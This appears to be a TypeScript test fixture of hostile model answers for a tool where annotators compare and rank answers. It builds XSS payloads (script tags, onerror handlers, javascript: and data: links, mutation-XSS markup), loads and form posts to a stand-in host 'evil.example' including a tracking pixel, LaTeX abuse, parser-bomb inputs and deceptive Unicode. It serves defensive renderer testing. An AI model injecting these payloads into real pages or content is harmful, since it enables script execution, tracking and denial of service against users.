/** An answer made to run, fetch, cover, hide, deceive or hang. */
export interface HostileAnswer {
  readonly name: string;
  readonly text: string;
  /** The text as the raw view shows it, where characters that show nothing are named. */
  readonly raw?: string;
}

const elsewhere = 'https://evil.example';
/** What every script of these answers would do. */
const deed = `globalThis.hacked=1,fetch('/stolen')`;

const markup: HostileAnswer[] = [
  { name: 'a script', text: `<script>${deed}</script>` },
  { name: 'a script from elsewhere', text: `<script src="${elsewhere}/x.js"></script>` },
  { name: 'an event handler', text: `<img src=x onerror="${deed}">` },
  { name: 'a drawing that loads', text: `<svg onload="${deed}"><script>${deed}</script></svg>` },
  { name: 'a frame', text: `<iframe srcdoc="<script>parent.${deed}</script>" src="${elsewhere}"></iframe>` },
  {
    name: 'a form over all',
    text: `<form action="${elsewhere}"><button style="position:fixed;inset:0">Submit</button></form>`,
  },
  {
    name: 'styles',
    text: `<style>@import url(${elsewhere}/x.css); .dock{display:none} *{color:red}</style>`,
  },
  {
    name: 'a refresh',
    text: `<meta http-equiv="refresh" content="0;url=${elsewhere}"><base href="${elsewhere}/">`,
  },
  {
    name: 'a stylesheet',
    text: `<link rel=stylesheet href="${elsewhere}/x.css"><link rel=prefetch href="${elsewhere}/p">`,
  },
  {
    name: 'an object',
    text: `<object data="${elsewhere}"></object><embed src="${elsewhere}"><video src="${elsewhere}" autoplay>`,
  },
  { name: 'a comment', text: 'before <!-- hidden from annotators --> after' },
  {
    name: 'a broken tag',
    text: `<<script>script>${deed}<</script>/script><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  },
  { name: 'elements with our ids', text: '<div id="root"></div><input name="hacked"><a id="hacked"></a>' },
];

const markdown: HostileAnswer[] = [
  { name: 'a link that runs', text: `[Read more](javascript:${deed})` },
  {
    name: 'links that run, disguised',
    text: `[a](JaVaScRiPt:${deed}) [b](&#106;avascript:${deed}) [c](java&Tab;script:${deed}) <javascript:${deed}>`,
  },
  {
    name: 'a page as a link',
    text: `[Read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  },
  { name: 'a link into ours', text: '[Your settings](/me) [Sign in](//evil.example/sign-in)' },
  { name: 'a picture from elsewhere', text: `![seen](${elsewhere}/pixel.png?who=you "seen")` },
  {
    name: 'pictures from here',
    text: '![a](/stolen) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c][ref]\n\n[ref]: /stolen',
  },
  { name: 'a link with a handler', text: `[x](${elsewhere} "onmouseover=${deed}")` },
  {
    name: 'code that closes its box',
    text: '```"><script>globalThis.hacked=1</script>\n</code></pre><script>globalThis.hacked=1</script>\n```',
  },
];

const formulas: HostileAnswer[] = [
  {
    name: 'a formula that links',
    text: `$\\href{javascript:${deed}}{x}$ and $$\\url{javascript:alert(1)}$$`,
  },
  { name: 'a formula that loads', text: `$\\includegraphics[height=9em]{${elsewhere}/p.png}$` },
  { name: 'a formula over all', text: '$$\\rule{99999em}{99999em}\\kern-9999em\\raisebox{9999em}{x}$$' },
  {
    name: 'a formula of our classes',
    text: '$\\class{dock}{x}\\style{position:fixed;inset:0}{y}\\cssId{root}{z}\\htmlData{a=b}{w}$',
  },
  { name: 'a formula without end', text: '$\\def\\a{\\a\\a}\\a$ $\\newcommand\\b{\\b}\\b$' },
];

const bombs: HostileAnswer[] = [
  { name: 'open emphasis', text: '*a_ '.repeat(20_000) },
  { name: 'deep quotes', text: `${'>'.repeat(8_000)} deep` },
  {
    name: 'deep lists',
    text: Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n'),
  },
  { name: 'open brackets', text: '['.repeat(50_000) },
  { name: 'a wide table', text: `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|b\n'.repeat(500)}` },
  { name: 'deep braces', text: `$${'{'.repeat(20_000)}x${'}'.repeat(20_000)}$` },
  { name: 'a megabyte', text: 'All work and no play makes Jack a dull boy. '.repeat(22_700) },
  { name: 'one long word', text: 'w'.repeat(200_000) },
];

const deceits: HostileAnswer[] = [
  { name: 'turned text', text: 'Pay \u202e001\u202c now\u2066!', raw: 'Pay RLO001PDF nowLRI!' },
  { name: 'hidden text', text: 'a\u200b\u200b\u200bb\u{e0041}c\ufeff', raw: 'aZWSP ×3bU+E0041cBOM' },
  { name: 'control characters', text: 'a\u0007b\u001b[31mred\u007f', raw: 'aU+0007bU+001B[31mredDEL' },
  { name: 'letters on letters', text: `H${'\u0300\u0489'.repeat(2_000)}e` },
];

export const hostileAnswers: readonly HostileAnswer[] = [
  ...markup,
  ...markdown,
  ...formulas,
  ...bombs,
  ...deceits,
];

/** Each as the prompt and as an answer of a pair; the other answer is harmless. */
export function hostileRows(): string {
  return hostileAnswers
    .map(({ name, text }) => {
      const responses = [
        { id: 'a', content: text, model: `<img src=x onerror="${deed}">` },
        { id: 'b', content: `Harmless beside ${name}` },
      ];
      const prompt = [
        { role: 'system', content: `On ${name}.` },
        { role: 'user', content: text },
      ];
      return `${JSON.stringify({ id: name, prompt, responses })}\n`;
    })
    .join('');
}

/** The short ones as the answers of one ranking. */
export function hostileRanking(): string {
  const short = hostileAnswers.filter(({ text }) => text.length < 1_000).slice(0, 16);
  const responses = short.map(({ text }, index) => ({ id: `r${index}`, content: text }));
  return `${JSON.stringify({ id: 'all', prompt: 'Rank them.', responses })}\n`;
}
